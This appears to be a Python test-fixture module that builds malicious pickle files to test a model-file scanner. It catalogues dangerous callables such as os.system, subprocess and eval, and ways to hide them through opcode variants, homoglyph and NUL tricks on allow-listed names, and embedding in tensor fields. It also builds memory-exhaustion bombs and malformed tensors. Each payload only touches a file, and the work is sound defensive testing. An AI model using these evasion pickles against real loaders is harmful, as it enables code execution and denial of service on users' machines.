"""Pickles that would run code, exhaust memory or confuse a scanner; each payload only touches one file."""

import pickle
import struct
from pathlib import Path

from malicious.assembler import call, name, plain, short_word, state_dict, storage, tensor, whole, word

DICT = name("collections", "OrderedDict")


def well_formed() -> bytes:
    """What none of the following is."""
    return whole(state_dict(word("weight"), tensor()))


def calls(target: Path) -> dict[str, bytes]:
    """One call each of a function that runs code, reads or writes files, or connects."""
    touch, code = f"touch {target}", f"open({str(target)!r}, 'w')"
    path, argv = str(target), ["touch", str(target)]
    shell = [
        *("os.system", "posix.system", "nt.system", "os.popen", "commands.getoutput", "popen2.popen3"),
        *(
            "subprocess.getoutput",
            "subprocess.getstatusoutput",
            "pydoc.pipepager",
            "torch.utils.collect_env.run",
        ),
        *("torch.utils.cpp_extension._run_ninja_build", "numpy.distutils.exec_command.exec_command"),
    ]
    argument_lists = [
        *("subprocess.call", "subprocess.run", "subprocess.Popen", "subprocess.check_output", "pty.spawn"),
        *("asyncio.create_subprocess_exec", "pip.main", "pip._internal.main", "ensurepip._run_pip"),
        *("multiprocessing.util.spawnv_passfds", "distutils.spawn.spawn", "uuid._popen"),
    ]
    source = [
        *(
            "builtins.eval",
            "builtins.exec",
            "__builtin__.eval",
            "builtins.compile",
            "timeit.timeit",
            "cProfile.run",
        ),
        *("profile.run", "pdb.run", "bdb.Bdb.run", "trace.Trace.run", "code.InteractiveInterpreter.runcode"),
        *("idlelib.run.Executive.runcode", "numpy.testing._private.utils.runstring", "doctest.debug_script"),
        *("torch.fx.graph_module._forward_from_src", "torch._dynamo.guards.GuardBuilder.get"),
        *("torch.jit.unsupported_tensor_ops.execWrapper", "torch.utils.bottleneck.__main__.run_cprofile"),
        *("torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression", "sympy.sympify"),
        *("pandas.eval", "numpy.f2py.crackfortran.getlincoef", "lib2to3.pgen2.grammar.Grammar.loads"),
    ]
    paths = [
        *("builtins.open", "io.open", "os.mkdir", "pathlib.Path.touch", "runpy.run_path", "shutil.rmtree"),
        *(
            "builtins.__import__",
            "importlib.import_module",
            "webbrowser.open",
            "ctypes.CDLL",
            "zipimport.zipimporter",
        ),
        *(
            "torch.load",
            "torch.serialization.load",
            "torch.jit.load",
            "torch.hub.load",
            "torch.hub._import_module",
        ),
        *(
            "torch.ops.load_library",
            "torch.classes.load_library",
            "torch.package.PackageImporter",
            "numpy.load",
        ),
        *(
            "torch._utils._import_dotted_name",
            "torch.storage._load_from_bytes",
            "numpy.core.multiarray.fromfile",
        ),
        *("numpy.memmap", "joblib.load", "dill.load", "logging.FileHandler", "logging.config.fileConfig"),
        *("urllib.request.urlopen", "socket.create_connection", "ssl.get_server_certificate", "ftplib.FTP"),
        *("marshal.loads", "pickle.loads", "_pickle.loads", "types.CodeType", "types.FunctionType"),
        *(
            "operator.attrgetter",
            "operator.methodcaller",
            "functools.partial",
            "functools.reduce",
            "sys.exit",
        ),
        *(
            "builtins.getattr",
            "builtins.globals",
            "builtins.map",
            "_codecs.encode",
            "torch._C._LegacyVariableMeta",
        ),
        *("torch._utils._rebuild_wrapper_subclass", "torch._tensor._rebuild_from_type_v2", "torch.nn.Linear"),
        *(
            "torch._utils._rebuild_sparse_tensor",
            "torch._utils._rebuild_qtensor",
            "torch._utils._rebuild_meta_tensor",
        ),
        *("torch._utils._rebuild_device_tensor_from_numpy", "transformers.AutoModel.from_pretrained"),
        *("transformers.training_args.TrainingArguments", "argparse.Namespace", "collections.Counter"),
    ]
    arguments = dict.fromkeys(shell, touch) | dict.fromkeys(source, code) | dict.fromkeys(paths, path)
    found = {}
    for function, argument in [*arguments.items(), *((one, argv) for one in argument_lists)]:
        module, _, attribute = function.rpartition(".")
        found[f"call {function}"] = whole(call(name(module, attribute), plain(argument)))
    return found


def ways(target: Path) -> dict[str, bytes]:
    """One payload, the shell, reached in every way that pickles know."""
    text = f"touch {target}"
    touch, argument = plain(text), plain((text,))
    system, run = name("os", "system"), call(name("os", "system"), plain(text))
    stacked = short_word("os") + short_word("system")
    memoised = short_word("os") + b"\x94" + short_word("system") + b"\x94" + b"00h\x00h\x01\x93"
    posix = short_word("posix") + b"\x940" + short_word("system") + b"\x940"
    return {
        "inst": whole(b"(" + touch + b"ios\nsystem\n"),
        "obj": whole(b"(" + system + touch + b"o"),
        "newobj": whole(name("subprocess", "Popen"), plain((["touch", str(target)],)), b"\x81"),
        "newobj_ex": whole(name("subprocess", "Popen"), argument, b"}\x92", protocol=4),
        "stack global": whole(stacked, b"\x93", argument, b"R", protocol=4),
        "stack global with protocol 2": whole(stacked, b"\x93", argument, b"R"),
        "stack global of long words": whole(word("os"), word("system"), b"\x93", argument, b"R"),
        "stack global of memoised words": whole(memoised, argument, b"R", protocol=4),
        "stack global of words put away": whole(posix, b"h\x00h\x01\x93", argument, b"R", protocol=4),
        "stack global with a frame": pickle.dumps({"x": 1}, 4)[:-1] + stacked + b"\x93" + argument + b"R.",
        "an extension code": whole(b"\x82\x01", argument, b"R"),
        "an extension code of two bytes": whole(b"\x83\x01\x00", argument, b"R"),
        "an extension code of four bytes": whole(b"\x84\x01\x00\x00\x00", argument, b"R"),
        "a persistent id in words": whole(b"Pos.system\n"),
        "a persistent module": whole(b"(" + word("module") + system + touch + touch + b"tQ"),
        "a persistent id that is a number": whole(b"K\x00Q"),
        "as a weight": whole(state_dict(word("weight"), run)),
        "beside the weights": whole(state_dict(word("a"), tensor(), word("b"), run)),
        "as a key": whole(state_dict(run, tensor())),
        "in the arguments of a dict": whole(call(DICT, b"](" + run + b"e")),
        "in the hooks of a tensor": whole(state_dict(word("a"), tensor(hooks=run))),
        "in the metadata of a tensor": whole(state_dict(word("a"), tensor(more=run))),
        "in a state": whole(state_dict(), b"}", word("_metadata"), run, b"sb"),
        "as a state": whole(state_dict(), run, b"b"),
        "as a storage": whole(state_dict(word("a"), tensor(run))),
        "as the size of a storage": whole(state_dict(word("a"), tensor(storage(size=run)))),
        "in a training checkpoint": whole(
            plain({"epoch": 3}), word("state_dict"), state_dict(), b"s", word("x"), run, b"s"
        ),
        "thrown away": whole(run, b"0", state_dict()),
        "thrown away with its mark": whole(b"(", run, b"1", state_dict()),
        "behind the end": well_formed() + whole(run),
        "behind the end, unframed": well_formed() + run + b".",
        "before the weights": whole(run) + well_formed(),
        "without protocol": run + b".",
        "with protocol 0": pickle.dumps({"x": 1}, 0)[:-1] + run + b".",
        "with a late protocol": run + b"\x80\x02" + b".",
        "with two protocols": whole(b"\x80\x02", run),
        **{f"with protocol {n}": whole(run, protocol=n) for n in (0, 1, 3, 4, 5, 6, 255)},
        "a chain of getattr": whole(
            call(call(name("builtins", "getattr"), name("os", "path"), word("os.system")), touch)
        ),
        "__setstate__": whole(name("functools", "partial"), b")\x81", b"(", system, argument, b"}Ntb"),
        "a dotted name": whole(call(name("torch", "hub.os.system"), touch)),
        "a dotted name of an allowed class": whole(call(name("collections", "OrderedDict.__class__"), touch)),
        "the loader of a class": whole(call(name("torch", "FloatStorage.__init__.__globals__"), touch)),
        "an allowed name with a space": whole(call(b"ccollections OrderedDict\n\n", touch)),
        "an allowed name with spaces around": whole(call(name(" collections", "OrderedDict "), touch)),
        "an allowed name in other letters": whole(call(name("collecti\u043ens", "OrderedDict"), touch)),
        "an allowed name with a NUL": whole(call(name("collections\0", "OrderedDict"), touch)),
        "an allowed name with a carriage return": whole(call(name("collections", "OrderedDict\r"), touch)),
        "an unterminated name": whole(b"cos\nsystem"),
        "a call of a word": whole(word("os.system"), argument, b"R"),
        "a call of a storage type": whole(call(name("torch", "FloatStorage"), plain(2**40))),
        "a call of a tensor": whole(tensor(), argument, b"R"),
        "a call without a tuple": whole(DICT, plain([1]), b"R"),
        "a new object of an allowed class": whole(DICT, b")\x81"),
        "attributes of a dict": whole(state_dict(), b"}", word("items"), word("x"), b"sb"),
        "attributes of a plain dict": whole(b"}", plain({"_metadata": 1}), b"b"),
        "attributes of a tensor": whole(state_dict(word("a"), tensor() + plain({"x": 1}) + b"b")),
        "the class of a dict": whole(state_dict(), b"}", word("__class__"), DICT, b"sb"),
    }


def pairs_of_pairs(levels: int) -> bytes:
    """Push and store as 0 a tuple that is small, but takes 2 ** levels steps to hash; more stay below it."""
    return b")q\x00" + b"h\x00h\x00\x86q\x00" * levels


def nested_key(levels: int) -> bytes:
    """A dict whose key is a tuple in a tuple in a tuple: C's stack ends before it is hashed."""
    return whole(b"})", b"\x85" * levels, b"Ns")


def exhausting() -> dict[str, bytes]:
    """Pickles that would take memory or time without end, and damaged ones."""
    claim = struct.pack("<Q", 2**62)
    return {
        "nothing": b"",
        "a stop": b".",
        "a protocol": b"\x80\x02.",
        "noise": bytes(range(255, 0, -1)),
        "an unknown opcode": whole(b"\xff"),
        "no end": well_formed()[:-1],
        "an empty stack": whole(b"0"),
        "a tuple of nothing": whole(b"\x87"),
        "an unknown memo": whole(b"h\x07"),
        "a mark left open": whole(b"(", state_dict()),
        "two values": whole(state_dict(), state_dict()),
        "no mark": whole(b"t"),
        "an odd number of items": whole(b"}(", word("a"), b"u"),
        "items of a list": whole(b"](", word("a"), plain(1), b"u"),
        "entries of a dict": whole(b"}(", plain(1), b"e"),
        "a key to hash forever": whole(pairs_of_pairs(60), b"}h\x00Ns"),
        "a key to hash forever in a call": whole(pairs_of_pairs(60), call(DICT, b"]h\x00N\x86a")),
        "a key of nested tuples": nested_key(190_000),
        "a tensor as key": whole(b"}", tensor(), b"Ns"),
        "a million steps": whole(b"0".join([b"N"] * 2**19), b"0", state_dict()),
        "a million lists": whole(b"]" * 2**20),
        "a million marks": whole(b"(" * 2**20),
        "8 GB of zeros": whole(state_dict(word("a"), call(name("builtins", "bytearray"), plain(2**33)))),
        "a word of 4 GB": whole(b"X\xff\xff\xff\xffabc"),
        "a word of 2^62 bytes": whole(b"\x8d" + claim),
        "bytes of 2^62 bytes": whole(b"\x8e" + claim),
        "an array of 2^62 bytes": whole(b"\x96" + claim, protocol=5),
        "a frame of 2^62 bytes": whole(b"\x95" + claim, protocol=4),
        "a buffer": whole(b"\x97", protocol=5),
        "a number of 2 GB": whole(b"\x8b\xff\xff\xff\x7f"),
        "a number of negative length": whole(b"\x8b\xff\xff\xff\xff"),
        "a number of 100,000 digits": whole(b"L" + b"9" * 100_000 + b"L\n"),
        "old words": whole(b"S'weight'\n"),
        "old words, escaped": whole(b"V\\u0061\n"),
        "a word that is not UTF-8": whole(b"X\x02\x00\x00\x00\xff\xfe"),
        "a set": whole(b"\x8f", protocol=4),
        "a duplicate": whole(state_dict(), b"2\x86"),
        "a list": whole(plain([1, 2])),
        "a number": whole(plain(1)),
        "a tensor": whole(tensor()),
        "numbers as weights": whole(state_dict(word("a"), plain(1))),
        "numbers as names": whole(state_dict(plain(1), tensor())),
        "names as weights": whole(state_dict(word("a"), DICT)),
    }


def tensors() -> dict[str, bytes]:
    """Tensors that are not what their storage holds."""
    far, hooks = 2**62, state_dict(word("a"), word("b"))
    bad = {
        "a negative stride": tensor(stride=(-3, 1)),
        "a negative size": tensor(shape=(-2, 3)),
        "a negative offset": tensor(offset=-1),
        "an offset behind the storage": tensor(offset=1),
        "an offset of 2^61": tensor(offset=2**61),
        "an offset of 2^64": tensor(offset=2**64),
        "a stride that leaves the storage": tensor(stride=(4, 1)),
        "a stride of 2^61": tensor(stride=(2**61, 1)),
        "a stride of 2^62": tensor(stride=(far, 1)),
        "a size that wraps around": tensor(shape=(2**32, 2**32), stride=(0, 0)),
        "2^62 elements": tensor(shape=(far,), stride=(1,)),
        "2^61 elements": tensor(shape=(2**61,), stride=(1,)),
        "2^61 elements that are one": tensor(shape=(2**61,), stride=(0,)),
        "12 elements of 6": tensor(shape=(2, 6), stride=(0, 1)),
        "an empty tensor behind its storage": tensor(offset=7, shape=(0,), stride=(1,)),
        "more sizes than strides": tensor(shape=(2, 3), stride=(3,)),
        "65 sizes": tensor(shape=(1,) * 65, stride=(1,) * 65),
        "a size that is a float": tensor(shape=(2.0, 3)),
        "a size that is a truth value": tensor(shape=(True, 3)),
        "a shape that is a list": tensor(shape=[2, 3]),
        "a shape that is a word": tensor(shape="23"),
        "an offset that is a tuple": tensor(offset=(0,)),
        "hooks": tensor(hooks=hooks),
        "no hooks": tensor(hooks=b"N"),
        "one argument too many": tensor(more=plain({"neg": True})),
        "a storage of 2^61 elements": tensor(storage(size=plain(2**61))),
        "a storage of 2^70 elements": tensor(storage(size=plain(2**70))),
        "a storage of -6 elements": tensor(storage(size=plain(-6))),
        "a storage of 7 elements": tensor(storage(size=plain(7))),
        "a storage of 5 elements": tensor(storage(size=plain(5)), shape=(5,), stride=(1,)),
        "a storage of wider elements": tensor(storage("DoubleStorage")),
        "a storage described twice": tensor() + word("b") + tensor(storage("IntStorage")),
        "a storage elsewhere": tensor(storage(key="../../0")),
        "a storage with no name": tensor(storage(key="")),
        "a storage with other digits": tensor(storage(key="\u0660")),
        "a storage that is absent": tensor(storage(key="1")),
        "a storage of no kind": tensor(storage("OrderedDict")),
        "an untyped storage": tensor(storage("UntypedStorage")),
        "a quantized storage": tensor(storage("QInt8Storage")),
        "a view of a storage": tensor(storage(end=plain(("1", 0, 6)))),
        "a word for a storage": tensor(word("storage")),
        "memory that was never written": call(name("torch", "FloatTensor"), plain(6)),
        "no memory": call(
            name("torch._utils", "_rebuild_meta_tensor_no_storage"),
            name("torch", "float32") + plain((2**40,)) + plain((1,)) + plain(False),
        ),
        "a parameter of nothing": call(name("torch._utils", "_rebuild_parameter"), b"N", b"\x89", b"N"),
        "a shape of two": call(name("torch", "Size"), plain((1,)), plain((2,))),
    }
    return {what: whole(state_dict(word("weight"), code)) for what, code in bad.items()}
